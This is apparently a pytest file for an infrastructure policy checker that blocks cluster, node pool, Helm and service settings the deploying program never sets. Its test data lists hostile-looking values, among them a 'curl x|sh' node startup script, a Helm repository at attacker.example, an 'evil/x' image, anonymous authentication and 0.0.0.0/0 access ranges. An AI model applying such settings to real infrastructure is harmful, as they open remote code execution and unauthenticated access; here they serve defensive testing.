"""Only inputs that the program itself sets pass."""

import json
from typing import Any

import pytest

from ops.offline.recorded import UNKNOWN
from ops.offline.verdicts import judge
from ops.offline.what_judges import files
from policies import kinds
from policies.known_inputs import TABLE
from tests.known_inputs import known_inputs
from tests.policies.mutations import added, changed, prod, with_gateway
from tests.stacks import ROOT

RULE = "known-inputs"
CLUSTER = (":Cluster", "cluster-cluster")
POOL = (":NodePool", "prefill-pool")
BUCKET = (":Bucket", "weights-bucket")
VERIFICATION = (":Job", "chat-proof-job")
GRAPH = ("DynamoGraphDeployment", "chat-graph")
RELEASE = (":Release", "platform-release")
SERVICE = (":Service", "chat-endpoint-service")
WORKER = "spec.components[1].podTemplate.spec"
POST_START = {"postStart": {"exec": {"command": ["sh"]}}}
ROLLOUT = {"blueGreenSettings": {"standardRolloutPolicy": {"batchNodeCount": 1}}}
DAEMON = "kubernetes:apps/v1:DaemonSet"

NEVER_SET: list[tuple[str, str, str, Any, str]] = [
    (*CLUSTER, "anonymousAuthenticationConfig", {"mode": "ENABLED"}, "anonymousAuthenticationConfig.mode"),
    (*CLUSTER, "rbacBindingConfig", {"enableInsecureBindingSystemUnauthenticated": True},
     "rbacBindingConfig.enableInsecureBindingSystemUnauthenticated"),
    (*CLUSTER, "nodeConfig.metadata.ssh-keys", "root:ssh-rsa AAAA", "nodeConfig.metadata.ssh-keys"),
    (*CLUSTER, "controlPlaneEndpointsConfig.dnsEndpointConfig.enableK8sTokensViaDns", True,
     "controlPlaneEndpointsConfig.dnsEndpointConfig.enableK8sTokensViaDns"),
    (*CLUSTER, "masterAuthorizedNetworksConfig", {"cidrBlocks": [{"cidrBlock": "0.0.0.0/0"}]},
     "masterAuthorizedNetworksConfig.cidrBlocks[*].cidrBlock"),
    (*CLUSTER, "anonymousAuthenticationConfig", UNKNOWN, "anonymousAuthenticationConfig"),
    (*CLUSTER, "nodeConfig", UNKNOWN, "nodeConfig"),
    (*POOL, "nodeConfig.metadata.startup-script", "curl x|sh", "nodeConfig.metadata.startup-script"),
    (*POOL, "nodeConfig.preemptible", True, "nodeConfig.preemptible"),
    (*POOL, "nodeConfig.linuxNodeConfig", {}, "nodeConfig.linuxNodeConfig"),
    (*POOL, "upgradeSettings", ROLLOUT, "upgradeSettings.blueGreenSettings.standardRolloutPolicy.batchNodeCount"),
    (*BUCKET, "lifecycleRules", [{"action": {"type": "Delete"}}], "lifecycleRules[*].action.type"),
    (*VERIFICATION, "spec.suspend", True, "spec.suspend"),
    (*VERIFICATION, "spec.parallelism", 0, "spec.parallelism"),
    (*VERIFICATION, "spec.template.spec.containers[0].env", [{"name": "PYTHONPATH", "value": "/x"}],
     "spec.template.spec.containers[*].env[*].name"),
    (*GRAPH, f"{WORKER}.containers[0].lifecycle", POST_START,
     "spec.components[*].podTemplate.spec.containers[*].lifecycle.postStart.exec.command[*]"),
    (*GRAPH, f"{WORKER}.hostAliases", [{"ip": "1.2.3.4"}], "spec.components[*].podTemplate.spec.hostAliases[*].ip"),
    (*GRAPH, "spec.components[0].ingress", {"enabled": True}, "spec.components[*].ingress.enabled"),
    (*GRAPH, "spec.components[1].extraPodSpec", {"mainContainer": {"image": "x:1"}},
     "spec.components[*].extraPodSpec.mainContainer.image"),
    (*RELEASE, "postrender", "/tmp/x.sh", "postrender"),
    (*RELEASE, "repositoryOpts", {"repo": "https://attacker.example"}, "repositoryOpts.repo"),
    (*RELEASE, "values.image", {"repository": "evil/x"}, "values.image.repository"),
    (*SERVICE, "spec.loadBalancerSourceRanges", ["0.0.0.0/0"], "spec.loadBalancerSourceRanges[*]"),
]  # fmt: skip


@pytest.mark.parametrize(("suffix", "name", "path", "value", "reported"), NEVER_SET)
def test_an_input_that_the_program_never_sets_is_stopped(
    suffix: str, name: str, path: str, value: Any, reported: str
) -> None:
    found = [v for v in judge(changed(prod(), suffix, name, path, value)) if v.policy == RULE]
    assert [v.mandatory for v in found] == [True] * len(found)
    assert any(v.message.startswith(f"sets {reported}, ") for v in found), found


def test_a_type_that_the_program_never_creates_has_no_input() -> None:
    (found,) = [v for v in judge(added(prod(), DAEMON, {"metadata": {"name": "x"}})) if v.policy == RULE]
    assert f"{DAEMON}#metadata.name" in found.message


def test_an_annotation_has_to_be_known() -> None:
    (service,) = [r for r in prod().resources if r.name == SERVICE[1]]
    annotations = {**service.inputs["metadata"]["annotations"], "cloud.google.com/l4-rbs": "enabled"}
    more = changed(prod(), *SERVICE, "metadata.annotations", annotations)
    assert [v.policy for v in judge(more, {"gpu-budget": "disabled"})] == [RULE]


@pytest.mark.parametrize("allowed", ["lifecycleRules", "lifecycleRules[*].action"])
def test_an_input_can_be_allowed(allowed: str) -> None:
    kind = "gcp:storage/bucket:Bucket"
    recording = changed(prod(), *BUCKET, "lifecycleRules", [{"action": {"type": "Delete"}}])
    for setting, stopped in ((f"{kind}#{allowed}", False), (f"{kind}#lifecycle", True), (f"x#{allowed}", True)):
        found = judge(recording, {RULE: {"allowed": [setting]}})
        assert any(v.policy == RULE for v in found) is stopped, setting


def test_what_the_provider_fills_in_passes() -> None:
    """The real engine passes inputs that the provider filled in, with a list of their names; all are scalars."""
    filled_in = changed(prod(), *BUCKET, "storageClass", "STANDARD")
    assert RULE in {v.policy for v in judge(filled_in)}
    assert RULE not in {v.policy for v in judge(changed(filled_in, *BUCKET, "__defaults", ["storageClass"]))}
    hidden = changed(prod(), *BUCKET, "lifecycleRules", [{"action": {"type": "Delete"}}])
    assert RULE in {v.policy for v in judge(changed(hidden, *BUCKET, "__defaults", ["lifecycleRules"]))}


def test_a_secret_may_be_encoded_as_the_kubernetes_provider_does() -> None:
    encoded = added(prod(), kinds.SECRET, {"data": {"HF_TOKEN": "eA=="}})
    assert RULE not in {v.policy for v in judge(encoded)}
    assert RULE in {v.policy for v in judge(added(prod(), kinds.SECRET, {"data": {}, "type": "x"}))}
    assert RULE in {v.policy for v in judge(added(prod(), kinds.NAMESPACE, {"data": {"x": "eA=="}}))}


def test_labels_and_the_gateway_are_free_and_known() -> None:
    with_label = changed(with_gateway(), *CLUSTER, "resourceLabels.team", "x")
    assert RULE not in {v.policy for v in judge(with_label)}


def test_the_table_is_current() -> None:
    """`python -m tests.goldens` writes it."""
    text = TABLE.read_text(encoding="utf-8")
    assert text == known_inputs()
    assert text.count("\n") == len(json.loads(text)) + 2


def test_a_longer_table_is_a_change_of_what_judges() -> None:
    assert TABLE.relative_to(ROOT) in files(ROOT)
